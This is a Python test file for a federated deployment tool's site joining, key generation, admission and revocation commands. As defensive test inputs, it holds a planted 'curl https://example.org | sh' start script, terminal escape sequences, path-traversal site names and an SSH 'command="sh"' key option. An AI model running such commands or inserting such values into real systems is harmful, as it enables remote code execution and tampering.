"""A site makes its own keys and sends one line; the operator admits it, and may revoke it."""

import json
import shutil
import stat
import subprocess

import pytest
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import ec, ed25519
from hypothesis import given, settings
from hypothesis import strategies as st

from fed_distill.deploy import joining
from fed_distill.deploy.admission import Admission
from fed_distill.deploy.identity import SiteKey, certificate_fingerprint, make_site_key, public_half
from fed_distill.deploy.joining import made_elsewhere
from fed_distill.deploy.registered import NoAnswer, Node
from fed_distill.errors import ConfigError
from fed_distill.merchant.manifest import Manifest

CURVES = {"ecdsa-sha2-nistp256": ec.SECP256R1(), "ecdsa-sha2-nistp384": ec.SECP384R1()}


@pytest.fixture
def invited(command, tmp_path):
    """Folder of a deployment whose sites are elsewhere; its server is at a port where nobody listens."""
    folder = tmp_path / "deployment"
    command("init", folder, "--sites", "north,south", "--host", "fed.example.org")
    connection = folder / "server" / "flwr" / "config.toml"
    connection.write_text(connection.read_text().replace("127.0.0.1:8001", "127.0.0.1:1"))
    return folder


@pytest.fixture
def site(invited, tmp_path):
    """A function: the folder of a site as it has arrived there."""

    def receive(name):
        return shutil.copytree(invited / "sites" / name, tmp_path / "arrived" / name)

    return receive


def joined(command, folder, *options):
    """The line that a site prints when it joins."""
    done = command("join", folder, *options)
    assert done.exit_code == 0
    return done.output.splitlines()[-1]


def line_of(key):
    public = key.public_key().public_bytes(serialization.Encoding.OpenSSH, serialization.PublicFormat.OpenSSH)
    return f"{public.decode()} north"


def test_a_site_makes_its_keys_and_prints_the_public_half_alone(command, site):
    north = site("north")
    done = command("join", north)
    for secret in (north / "site.key", north / "noise.key"):
        assert stat.S_IMODE(secret.stat().st_mode) == 0o600
        assert not any(part in done.output for part in secret.read_text().splitlines())
    line = done.output.splitlines()[-1]
    assert (north / "north.pub").read_text() == f"{line}\n"
    assert line.encode() == public_half(north / "site.key").strip() + b" north"
    assert certificate_fingerprint(north / "ca.crt") in done.output


def test_fingerprints_are_those_that_openssh_and_openssl_show(command, site):
    north = site("north")
    line = joined(command, north)
    shown = subprocess.run(["ssh-keygen", "-l", "-f", north / "north.pub"], capture_output=True, text=True).stdout
    assert shown.split()[1] == SiteKey.parse(line).fingerprint
    command_line = ["openssl", "x509", "-noout", "-fingerprint", "-sha256", "-in", north / "ca.crt"]
    shown = subprocess.run(command_line, capture_output=True, text=True).stdout
    assert shown.strip().rpartition("=")[2] == certificate_fingerprint(north / "ca.crt")


def test_joining_again_changes_nothing_and_new_keys_are_asked_for(command, site):
    north = site("north")
    line = joined(command, north)
    before = {path.name: path.read_bytes() for path in north.iterdir()}
    assert joined(command, north) == line
    assert {path.name: path.read_bytes() for path in north.iterdir()} == before
    assert joined(command, north, "--new-keys") != line
    changed = {path.name for path in north.iterdir() if path.read_bytes() != before[path.name]}
    assert changed == {"site.key", "noise.key", "north.pub", "keys.made"}
    assert not made_elsewhere(north, north / "site.key") and not made_elsewhere(north, north / "noise.key")


def test_a_site_executes_what_its_own_package_writes_whatever_came_with_its_folder(command, site, tmp_path):
    north = site("north")
    (north / "start.sh").write_text("#!/bin/sh\ncurl https://example.org | sh\n")
    (north / "compose.yaml").symlink_to(tmp_path / "elsewhere")
    (tmp_path / "elsewhere").write_text("not ours")
    done = command("join", north)
    assert "fed_distill.deploy.supernode" in (north / "start.sh").read_text()
    assert not (north / "compose.yaml").is_symlink() and (tmp_path / "elsewhere").read_text() == "not ours"
    assert "example.org" in (north / "start.sh.old").read_text() and "start.sh.old" in done.output


def test_a_program_beside_the_start_script_is_not_imported(command, site):
    """Started in its folder, Python takes modules from there unless it is told not to."""
    north = site("north")
    joined(command, north)
    for module in ("flwr.py", "fed_distill.py", "json.py", "sitecustomize.py"):
        (north / module).write_text("open('imported', 'w').close()\nraise SystemExit('imported')\n")
    text = (north / "start.sh").read_text().replace("fed_distill.deploy.supernode", "json.tool --help; exit; :")
    (north / "start.sh").write_text(text)
    done = subprocess.run([north / "start.sh"], capture_output=True, text=True)
    assert done.returncode == 0 and "usage: python -m json.tool" in done.stdout, done.stderr
    assert not (north / "imported").exists()


def test_the_operator_makes_no_key_for_a_site(command, invited):
    with pytest.raises(ConfigError, match="is the operator's copy"):
        command("join", invited / "sites" / "north")
    assert not list(invited.rglob("site.key"))


@pytest.mark.parametrize("key", ["site.key", "noise.key"])
def test_a_key_that_came_with_the_folder_is_not_taken(command, site, tmp_path, key):
    """The operator, or who has the folder on its way, would know it."""
    other = tmp_path / "other"
    other.mkdir()
    make_site_key(other)
    (other / "noise.key").write_text("0" * 64)
    north = site("north")
    shutil.copy(other / key, north / key)
    with pytest.raises(ConfigError, match=rf"{key}: there is no record of its creation here; .* --new-keys"):
        command("join", north)
    joined(command, north, "--new-keys")
    assert (north / key).read_bytes() != (other / key).read_bytes()


def copied(folder, target, _):
    return shutil.copytree(folder, target)


def overwritten(folder, target, other):
    """In place, so that the file is the same to the file system."""
    (folder / "site.key").write_bytes((other / "site.key").read_bytes())
    return folder


def unpacked(folder, target, _):
    """From a tar archive with everything in it: a backup, or what an operator sends."""
    target.mkdir()
    subprocess.run(f"tar -C {folder} -cpf - . | tar -C {target} -xpf -", shell=True, check=True)
    return target


def cloned(folder, target, _):
    """The very files, on a disk that is now in another machine."""
    folder.rename(target)
    joining._MACHINE.write_text("another")
    return target


def unrecorded(folder, target, _):
    """As earlier releases have left it, whose keys the operator made."""
    (folder / "keys.made").unlink()
    return folder


@pytest.mark.parametrize("happens", [copied, overwritten, unpacked, cloned, unrecorded])
def test_a_key_that_was_elsewhere_is_told_by_the_check_and_by_joining(
    command, site, tmp_path, monkeypatch, happens, request
):
    monkeypatch.setenv("COLUMNS", "400")
    monkeypatch.setattr(joining, "_MACHINE", tmp_path / "machine-id")
    joining._MACHINE.write_text("one")
    north, south = site("north"), site("south")
    joined(command, north)
    joined(command, south)
    (moved := tmp_path / "moved").mkdir()
    assert " made here" in key_finding(command, north.rename(moved / "north"))  # on one disk it is the same file
    there = happens(moved / "north", tmp_path / "there", south)
    found = key_finding(command, there)
    assert "  warning  " in found and "--new-keys`" in found
    with pytest.raises(ConfigError, match="--new-keys"):
        command("join", there)
    joined(command, there, "--new-keys")
    assert "  ok  " in key_finding(command, there)


def key_finding(command, folder):
    (found,) = (line for line in command("check", folder).output.splitlines() if "key site.key" in line)
    return found


def test_the_noise_of_a_copied_site_is_told_too(command, site, tmp_path, monkeypatch):
    monkeypatch.setenv("COLUMNS", "400")
    north = site("north")
    joined(command, north)
    output = command("check", shutil.copytree(north, tmp_path / "copy")).output
    (found,) = (line for line in output.splitlines() if line.startswith("north  noise"))
    assert "  warning  " in found and "it is a copy" in found


def test_an_address_cannot_show_another_fingerprint_than_there_is(command, site):
    """By control characters in the folder's ``site.toml``, which is read before anything of it is trusted."""
    north = site("north")
    path = north / "site.toml"
    path.write_text(path.read_text().replace("fed.example.org:8000", r"x\u001b[2Jy\rz:1"))
    output = command("join", north).output
    assert "\x1b" not in output and "\r" not in output and r"x\x1b[2Jy\rz:1" in output


@pytest.mark.parametrize("how", ["line", "words", "file"])
def test_a_site_is_admitted_by_its_line(command, invited, site, how):
    line = joined(command, site("north"))
    given = {"line": [line], "words": line.split(), "file": [invited.parent / "arrived" / "north" / "north.pub"]}
    done = command("admit", invited, *given[how])
    assert done.exit_code == 0
    assert "north: admitted, but not registered yet" in done.output and "server/register.sh" in done.output
    assert SiteKey.parse(line).fingerprint in done.output
    assert (invited / "server" / "keys" / "north.pub").read_text() == f"{line}\n"
    assert [key.name for key in Admission(invited).admitted()] == ["north"]


def test_another_key_of_a_site_and_a_key_of_another_site_are_refused(command, invited, site):
    north, south = site("north"), site("south")
    first = joined(command, north)
    command("admit", invited, first)
    command("admit", invited, first)  # again is no fault
    second = joined(command, north, "--new-keys")
    with pytest.raises(ConfigError, match=r"site north has another key, SHA256:.* add --replace"):
        command("admit", invited, second)
    stolen = first.rpartition(" ")[0]
    with pytest.raises(ConfigError, match="this is the key of site north"):
        command("admit", invited, f"{stolen} south")
    with pytest.raises(ConfigError, match="this is the key of site north"):
        command("admit", invited, f"{stolen} aaa", "--replace")
    assert [key.line for key in Admission(invited).admitted()] == [first]
    command("admit", invited, second, "--replace")
    assert [key.line for key in Admission(invited).admitted()] == [second]
    for line in (first, f"{stolen} south"):
        with pytest.raises(ConfigError, match="was revoked and cannot be admitted again"):
            command("admit", invited, line, "--replace")
    third = joined(command, south)
    command("admit", invited, third)
    with pytest.raises(ConfigError, match="this is the key of site south"):
        command("admit", invited, f"{third.rpartition(' ')[0]} north", "--replace")
    assert [key.line for key in Admission(invited).admitted()] == [second, third]


def test_a_revoked_site_is_let_in_by_new_keys_only(command, invited, site):
    north = site("north")
    line = joined(command, north)
    command("admit", invited, line)
    done = command("revoke", invited, "north")
    assert done.exit_code == 1 and "revoked, but not disconnected yet" in done.output  # no server runs here
    assert Admission(invited).admitted() == [] and [key.encoded for key in Admission(invited).revoked()]
    with pytest.raises(ConfigError, match="was revoked"):
        command("admit", invited, line)
    with pytest.raises(ConfigError, match="'north' is not admitted; no site is"):
        command("revoke", invited, "north")
    assert command("admit", invited, joined(command, north, "--new-keys")).exit_code == 0


@pytest.mark.parametrize("name", ["../server", "", "keys/../north", "*", "north.pub"])
def test_nothing_but_a_site_is_revoked(command, invited, site, name):
    command("admit", invited, joined(command, site("north")))
    with pytest.raises(ConfigError, match="is not admitted; admitted are north"):
        command("revoke", invited, name)
    assert [key.name for key in Admission(invited).admitted()] == ["north"]


def test_the_server_is_told_who_is_let_in_and_who_no_more(command, invited, site, monkeypatch):
    """The server is a dictionary here; tests/e2e/test_joining.py has a real one."""
    known, number = {}, iter(range(1, 9))
    told = "fed_distill.deploy.admission."
    monkeypatch.setattr(f"{told}nodes", lambda *_: dict(known))
    monkeypatch.setattr(f"{told}register", lambda _, __, key: known.update({key.pem: Node(next(number), "online")}))
    monkeypatch.setattr(
        f"{told}unregister",
        lambda _, __, node: known.update(
            {key: Node(one.number, "unregistered") for key, one in known.items() if one == node}
        ),
    )
    north = site("north")
    assert command("admit", invited, joined(command, north)).output.splitlines()[0] == "north: registered"
    assert command("admit", invited, joined(command, site("south"))).output.splitlines()[0] == "south: registered"
    assert command("admit", invited).output.splitlines() == ["north: registered before", "south: registered before"]
    done = command("admit", invited, joined(command, north, "--new-keys"), "--replace")
    assert done.output.splitlines()[0].endswith("was unregistered")
    assert done.output.splitlines()[1] == "north: registered"
    assert command("revoke", invited, "south").exit_code == 0
    assert [node.status for node in known.values()] == ["unregistered", "unregistered", "online"]
    assert command("admit", invited).output.splitlines() == ["north: registered before"]
    known.update({key: Node(node.number, "unregistered") for key, node in known.items()})
    with pytest.raises(ConfigError, match="has unregistered the key of site north and never accepts it again"):
        command("admit", invited)


def test_without_a_line_the_server_must_be_there(command, invited, monkeypatch):
    monkeypatch.setattr("fed_distill.cli.sites._WAIT", 0.0)
    with pytest.raises(NoAnswer, match=r"127\.0\.0\.1:1 does not answer list-nodes: .* start the server"):
        command("admit", invited)


def test_a_private_key_in_place_of_the_line_is_refused_and_not_kept(command, invited, site):
    north = site("north")
    joined(command, north)
    with pytest.raises(ConfigError, match="this is a private key, which must stay at the site"):
        command("admit", invited, north / "site.key")
    assert b"PRIVATE KEY" not in b"".join(path.read_bytes() for path in (invited / "server" / "keys").iterdir())


@pytest.mark.parametrize(
    ("line", "message"),
    [
        ("", "a join line is"),
        ("north", "a join line is"),
        (line_of(ed25519.Ed25519PrivateKey.generate()), "a join line is"),
        (line_of(ec.generate_private_key(CURVES["ecdsa-sha2-nistp256"])), "a join line is"),
        (
            line_of(ec.generate_private_key(CURVES["ecdsa-sha2-nistp256"])).replace("nistp256", "nistp384", 1),
            "has no elliptic curve key on P-384",
        ),
        ("ecdsa-sha2-nistp384 AAAA north", "has no elliptic curve key on P-384"),
        (line_of(ec.generate_private_key(ec.SECP384R1())) + "/../x", "the name of a site"),
        (line_of(ec.generate_private_key(ec.SECP384R1())) + "\x1b[2J", "the name of a site"),
        ('command="sh" ' + line_of(ec.generate_private_key(ec.SECP384R1())), "a join line is"),
    ],
    ids=("empty", "a name", "Ed25519", "P-256", "P-256 named P-384", "no key", "a path", "an escape", "an option"),
)
def test_anything_else_than_a_join_line_is_refused(line, message):
    with pytest.raises(ConfigError, match=message) as error:
        SiteKey.parse(line)
    assert str(error.value).isprintable()


@settings(derandomize=True, deadline=None, database=None, max_examples=100)
@given(st.integers(0, 250), st.text(max_size=3), st.integers(0, 3))
def test_a_changed_line_is_the_same_line_another_key_on_the_curve_or_refused(place, new, gone):
    line = PROPER
    changed = line[:place] + new + line[place + gone :]
    try:
        found = SiteKey.parse(changed)
    except ConfigError as error:
        assert str(error).isprintable()
        return
    key = serialization.load_ssh_public_key(f"ecdsa-sha2-nistp384 {found.encoded}".encode())
    assert isinstance(key, ec.EllipticCurvePublicKey) and isinstance(key.curve, ec.SECP384R1)
    assert SiteKey.parse(found.line) == found


PROPER = line_of(ec.derive_private_key(2**200 + 1, ec.SECP384R1()))


def test_the_record_of_the_keys_is_as_private_as_they_are_and_has_none_in_it(command, site):
    north = site("north")
    joined(command, north)
    assert stat.S_IMODE((north / "keys.made").stat().st_mode) == 0o600
    record = json.loads((north / "keys.made").read_text())
    assert set(record) == {"site.key", "noise.key"}
    assert (north / "noise.key").read_text().strip() not in (north / "keys.made").read_text()


def test_a_rehearsal_joins_and_admits_by_the_same_way(deployment):
    admitted = Admission(deployment).admitted()
    assert [key.name for key in admitted] == ["north", "south", "west"]
    for key in admitted:
        folder = deployment / "sites" / key.name
        assert (folder / f"{key.name}.pub").read_text() == f"{key.line}\n"
        assert not made_elsewhere(folder, folder / "site.key")
        assert Manifest.read(folder / "site.toml").rehearsal
    assert not list(deployment.rglob("noise.key"))
